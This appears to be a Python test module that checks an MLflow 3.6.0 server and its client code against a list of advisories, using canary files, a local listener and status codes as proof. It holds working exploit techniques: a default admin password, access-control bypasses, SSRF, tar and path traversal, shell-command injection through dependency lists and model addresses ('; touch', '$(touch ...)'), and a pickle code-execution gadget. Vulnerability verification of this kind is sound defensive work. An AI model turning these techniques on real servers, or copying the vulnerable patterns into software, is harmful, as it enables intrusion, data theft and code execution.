"""What the published advisories say about MLflow 3.6.0, tried on a server or on its client code.

Each function is registered under the advisories it demonstrates, and returns whether that
vulnerability is open. Nothing here harms: the proof is a status code, or a file or listener that
the test made.
"""

import io
import pickle
import secrets
import shlex
import stat
import subprocess
import tarfile
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from socketserver import BaseRequestHandler, TCPServer
from typing import Any, TypeVar

import requests
from opentelemetry.proto.collector.trace.v1.trace_service_pb2 import ExportTraceServiceRequest

from tests.waiting import WITHIN

Who = tuple[str, str]  # name and password

CANARY = "written by the test"

Tried = TypeVar("Tried", bound=Callable[..., bool])

# By the first advisory that each demonstrates.
ON_A_SERVER: dict[str, Callable[["Target", Path], bool]] = {}
IN_THE_CLIENT: dict[str, Callable[[Path], bool]] = {}


def _demonstrates(registry: dict[str, Tried], advisory: str) -> Callable[[Tried], Tried]:
    def register(function: Tried) -> Tried:
        registry[advisory] = function
        return function

    return register


@dataclass
class Target:
    """A server with basic-auth and, on it, an owner of things and an outsider without permission.

    Args:
        uri: of the server, or of the proxy before it.
        admin: name and password.
        verify: as in requests: a file with the authority that signed the server's certificate.
    """

    uri: str
    admin: tuple[str, str]
    verify: bool | str = True
    owner: tuple[str, str] = field(init=False)
    outsider: tuple[str, str] = field(init=False)

    def __post_init__(self) -> None:
        self.owner, self.outsider = self._user("owner"), self._user("outsider")

    def ask(
        self, method: str, path: str, who: Who | None = None, **arguments: Any
    ) -> requests.Response:
        """One request, as `who` (name and password) or without credentials."""
        return requests.request(
            method, self.uri + path, auth=who, verify=self.verify, timeout=WITHIN, **arguments
        )

    def done(self, method: str, path: str, who: Who, **arguments: Any) -> dict:
        """The answer to a request that has to succeed."""
        response = self.ask(method, path, who, **arguments)
        assert response.ok, f"{path}: {response.status_code} {response.text[:300]}"
        return response.json()

    def _user(self, role: str) -> tuple[str, str]:
        user = f"{role}-{secrets.token_hex(4)}", secrets.token_urlsafe(12)
        body = {"username": user[0], "password": user[1]}
        self.done("POST", "/api/2.0/mlflow/users/create", self.admin, json=body)
        return user

    def experiment(self) -> str:
        """An experiment of the owner, closed to the outsider."""
        body = {"name": f"closed-{secrets.token_hex(4)}"}
        path = "/api/2.0/mlflow/experiments"
        made = self.done("POST", f"{path}/create", self.owner, json=body)["experiment_id"]
        closed = {"username": self.outsider[0], "permission": "NO_PERMISSIONS"}
        self.done(
            "POST", f"{path}/permissions/create", self.owner, json=closed | {"experiment_id": made}
        )
        seen = self.ask("GET", f"{path}/get?experiment_id={made}", self.outsider)
        assert seen.status_code == 403, "the outsider must not see the experiment"
        return made

    def run(self, experiment: str, who: Who) -> dict:
        """The `info` of a new run."""
        body = {"experiment_id": experiment}
        return self.done("POST", "/api/2.0/mlflow/runs/create", who, json=body)["run"]["info"]

    def trace(self) -> str:
        """A trace in a closed experiment of the owner."""
        trace_id = f"tr-{secrets.token_hex(16)}"
        self.done(
            "POST",
            "/api/3.0/mlflow/traces",
            self.owner,
            json=trace_request(trace_id, self.experiment()),
        )
        return trace_id


def trace_request(trace_id: str, experiment: str) -> dict:
    """The body of a request that starts a trace with this ID in an experiment."""
    place = {"type": "MLFLOW_EXPERIMENT", "mlflow_experiment": {"experiment_id": experiment}}
    info = {"trace_id": trace_id, "trace_location": place, "state": "OK"}
    return {"trace": {"trace_info": info | {"request_time": "2026-11-23T00:00:00Z"}}}


@contextmanager
def _listener() -> Iterator["_Inner"]:
    """A port in this process, standing for a machine that only the inner network can reach."""
    with _Inner(("127.0.0.1", 0), BaseRequestHandler) as inner:
        thread = threading.Thread(target=inner.serve_forever, args=(0.05,))
        thread.start()
        try:
            yield inner
        finally:
            inner.shutdown()
            thread.join()


class _Inner(TCPServer):
    """Says nothing: notes that somebody came, and hangs up."""

    reached = False

    def verify_request(self, *_: object) -> bool:
        self.reached = True
        return False


@_demonstrates(ON_A_SERVER, "CVE-2026-2652")
def spans_are_written_without_credentials(target: Target, folder: Path) -> bool:
    request = ExportTraceServiceRequest()
    span = request.resource_spans.add().scope_spans.add().spans.add()
    span.trace_id, span.span_id, span.name = secrets.token_bytes(16), secrets.token_bytes(8), "x"
    span.start_time_unix_nano, span.end_time_unix_nano = 1, 2
    headers = {
        "Content-Type": "application/x-protobuf",
        "x-mlflow-experiment-id": target.experiment(),
    }
    return target.ask("POST", "/v1/traces", data=request.SerializeToString(), headers=headers).ok


@_demonstrates(ON_A_SERVER, "CVE-2026-0545")
def jobs_are_listed_without_credentials(target: Target, folder: Path) -> bool:
    return target.ask("POST", "/ajax-api/3.0/jobs/search", json={}).ok


@_demonstrates(ON_A_SERVER, "CVE-2026-2635")
def the_password_of_the_package_opens_the_server(target: Target, folder: Path) -> bool:
    path = "/api/2.0/mlflow/experiments/get?experiment_id=0"
    return target.ask("GET", path, ("admin", "password1234")).ok


@_demonstrates(ON_A_SERVER, "CVE-2026-2651")
def an_outsider_starts_an_upload_into_a_closed_experiment(target: Target, folder: Path) -> bool:
    artifacts = f"{target.experiment()}/model"
    plain = f"/api/2.0/mlflow-artifacts/artifacts/{artifacts}/weights"
    assert target.ask("PUT", plain, target.outsider, data=b"x").status_code == 403
    path = f"/api/2.0/mlflow-artifacts/mpu/create/{artifacts}"
    return target.ask("POST", path, target.outsider, json={"path": "weights", "num_parts": 1}).ok


@_demonstrates(ON_A_SERVER, "CVE-2025-15381")
def an_outsider_reads_a_trace_of_a_closed_experiment(target: Target, folder: Path) -> bool:
    return target.ask("GET", f"/api/3.0/mlflow/traces/{target.trace()}", target.outsider).ok


@_demonstrates(ON_A_SERVER, "CVE-2026-8147")
def an_outsider_changes_a_trace_of_a_closed_experiment(target: Target, folder: Path) -> bool:
    path = f"/api/3.0/mlflow/traces/{target.trace()}/tags"
    return target.ask("PATCH", path, target.outsider, json={"key": "seen", "value": "yes"}).ok


@_demonstrates(ON_A_SERVER, "CVE-2026-2734")
def an_outsider_finds_versions_of_a_closed_model(target: Target, folder: Path) -> bool:
    name, models = f"closed-{secrets.token_hex(4)}", "/api/2.0/mlflow/registered-models"
    target.done("POST", f"{models}/create", target.owner, json={"name": name})
    closed = {"name": name, "username": target.outsider[0], "permission": "NO_PERMISSIONS"}
    target.done("POST", f"{models}/permissions/create", target.owner, json=closed)
    assert target.ask("GET", f"{models}/get?name={name}", target.outsider).status_code == 403
    version = {"name": name, "source": "s3://mlflow/model"}
    target.done("POST", "/api/2.0/mlflow/model-versions/create", target.owner, json=version)
    search = f"/api/2.0/mlflow/model-versions/search?filter=name='{name}'"
    return name in target.ask("GET", search, target.outsider).text


@_demonstrates(ON_A_SERVER, "CVE-2026-33866")
def an_outsider_downloads_a_file_of_a_closed_model(target: Target, folder: Path) -> bool:
    experiment, models = target.experiment(), "/mlflow/logged-models"
    body = {"experiment_id": experiment, "name": "model"}
    made = target.done("POST", f"/api/2.0{models}", target.owner, json=body)["model"]["info"]
    inner = made["artifact_uri"].partition(":/")[2].lstrip("/")
    upload = f"/api/2.0/mlflow-artifacts/artifacts/{inner}/MLmodel"
    assert target.ask("PUT", upload, target.owner, data=CANARY).ok
    model = made["model_id"]
    assert target.ask("GET", f"/api/2.0{models}/{model}", target.outsider).status_code == 403
    path = f"/ajax-api/2.0{models}/{model}/artifacts/files?artifact_file_path=MLmodel"
    return target.ask("GET", path, target.outsider).text == CANARY


@_demonstrates(ON_A_SERVER, "CVE-2025-14297")
def an_outsider_downloads_an_artifact_of_a_closed_run(target: Target, folder: Path) -> bool:
    run = target.run(target.experiment(), target.owner)
    inner = run["artifact_uri"].partition(":/")[2].lstrip("/")
    upload = f"/api/2.0/mlflow-artifacts/artifacts/{inner}/note.txt"
    assert target.ask("PUT", upload, target.owner, data=CANARY).ok
    assert target.ask("GET", upload, target.outsider).status_code == 403
    path = f"/get-artifact?run_id={run['run_id']}&path=note.txt"
    return target.ask("GET", path, target.outsider).text == CANARY


@_demonstrates(ON_A_SERVER, "CVE-2026-2614")
def a_user_reads_a_file_of_the_servers_machine(target: Target, folder: Path) -> bool:
    (folder / "canary.txt").write_text(CANARY)
    name = f"prompt-{secrets.token_hex(4)}"
    models, versions = "/api/2.0/mlflow/registered-models", "/api/2.0/mlflow/model-versions"
    target.done("POST", f"{models}/create", target.outsider, json={"name": name})
    tags = [{"key": "mlflow.prompt.is_prompt", "value": "true"}]
    body = {"name": name, "source": folder.as_uri(), "tags": tags}
    target.ask("POST", f"{versions}/create", target.outsider, json=body)
    path = f"/model-versions/get-artifact?name={name}&version=1&path=canary.txt"
    return target.ask("GET", path, target.outsider).text == CANARY


@_demonstrates(ON_A_SERVER, "CVE-2026-2393")
def a_webhook_reaches_a_host_of_the_inner_network(target: Target, folder: Path) -> bool:
    with _listener() as inner:
        body = {
            "name": f"hook-{secrets.token_hex(4)}",
            "url": f"https://127.0.0.1:{inner.server_address[1]}/",
            "events": [{"entity": "REGISTERED_MODEL", "action": "CREATED"}],
        }
        made = target.ask("POST", "/api/2.0/mlflow/webhooks", target.outsider, json=body)
        if made.ok:
            hook = f"/api/2.0/mlflow/webhooks/{made.json()['webhook']['webhook_id']}"
            target.ask("POST", f"{hook}/test", target.outsider, json={})
            target.ask("DELETE", hook, target.outsider)
        return inner.reached


@_demonstrates(ON_A_SERVER, "CVE-2026-118628")
def an_artifact_location_reaches_a_host_of_the_inner_network(target: Target, folder: Path) -> bool:
    with _listener() as inner:
        body = {
            "name": f"inner-{secrets.token_hex(4)}",
            "artifact_location": f"ftp://127.0.0.1:{inner.server_address[1]}/",
        }
        path = "/api/2.0/mlflow/experiments/create"
        made = target.ask("POST", path, target.outsider, json=body)
        if made.ok:
            run = target.run(made.json()["experiment_id"], target.outsider)
            target.ask("GET", f"/get-artifact?run_id={run['run_id']}&path=x", target.outsider)
        return inner.reached


@_demonstrates(ON_A_SERVER, "CVE-2026-2611")
def a_page_of_another_origin_may_write(target: Target, folder: Path) -> bool:
    headers = {"Origin": "https://elsewhere.example"}
    body = {"name": f"elsewhere-{secrets.token_hex(4)}"}
    path = "/ajax-api/2.0/mlflow/experiments/create"
    return target.ask("POST", path, target.outsider, json=body, headers=headers).ok


@_demonstrates(ON_A_SERVER, "CVE-2026-53995")
def a_trace_id_writes_outside_its_folder(target: Target, folder: Path) -> bool:
    outside = folder / "outside"
    # The file store joins the id to a path of its own; an absolute path replaces it.
    body = trace_request(str(outside), target.experiment())
    target.ask("POST", "/api/3.0/mlflow/traces", target.owner, json=body)
    return outside.exists()


@_demonstrates(IN_THE_CLIENT, "CVE-2026-4137")
def the_group_may_change_a_model_that_is_being_loaded(folder: Path) -> bool:
    from mlflow.pyfunc import _create_model_downloading_tmp_dir

    made = Path(_create_model_downloading_tmp_dir(should_use_nfs=False))
    mode = made.stat().st_mode
    made.rmdir()
    return bool(mode & stat.S_IWGRP)


@_demonstrates(IN_THE_CLIENT, "CVE-2025-15036")
def an_archive_writes_outside_its_folder(folder: Path) -> bool:
    from mlflow.pyfunc.dbconnect_artifact_cache import extract_archive_to_dir

    with tarfile.open(folder / "model.tar", "w") as archive:
        member = tarfile.TarInfo("../outside.txt")
        member.size = len(CANARY)
        archive.addfile(member, io.BytesIO(CANARY.encode()))
    extract_archive_to_dir(str(folder / "model.tar"), str(folder / "inside"))
    return (folder / "outside.txt").exists()


@_demonstrates(IN_THE_CLIENT, "CVE-2025-15379")
def a_model_runs_a_shell_command_when_its_packages_are_installed(folder: Path) -> bool:
    from mlflow.models.container import _install_model_dependencies_to_env

    flavor = {"loader_module": "x", "python_version": "3.11", "env": {"virtualenv": "env.yaml"}}
    (folder / "MLmodel").write_text(f"flavors: {{python_function: {flavor}}}".replace("'", '"'))
    canary = folder / "canary"
    (folder / "env.yaml").write_text(
        f'python: "3.11"\ndependencies: ["--version; touch {shlex.quote(str(canary))}"]\n'
    )
    _install_model_dependencies_to_env(str(folder), env_manager="local")
    return canary.exists()


@_demonstrates(IN_THE_CLIENT, "CVE-2026-0596")
def a_model_address_runs_a_shell_command_when_it_is_served(folder: Path) -> bool:
    from mlflow.pyfunc.mlserver import get_cmd

    canary = folder / "canary"
    command, _ = get_cmd(f"$(touch {shlex.quote(str(canary))})")
    # What the scoring server does with it. `:` is a builtin, so mlserver is not started.
    subprocess.run(["bash", "-c", command.replace("mlserver", ":", 1)], check=True)
    return canary.exists()


class _Touch:
    """Unpickled, it makes a file."""

    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self) -> tuple:
        return Path.touch, (self.path,)


@_demonstrates(IN_THE_CLIENT, "CVE-2026-118623")
def a_pickled_artifact_runs_code_when_it_is_loaded(folder: Path) -> bool:
    from mlflow.models.evaluation.artifacts import PickleEvaluationArtifact

    (folder / "artifact.pickle").write_bytes(pickle.dumps(_Touch(folder / "canary")))
    PickleEvaluationArtifact(uri="")._load(str(folder / "artifact.pickle"))
    return (folder / "canary").exists()
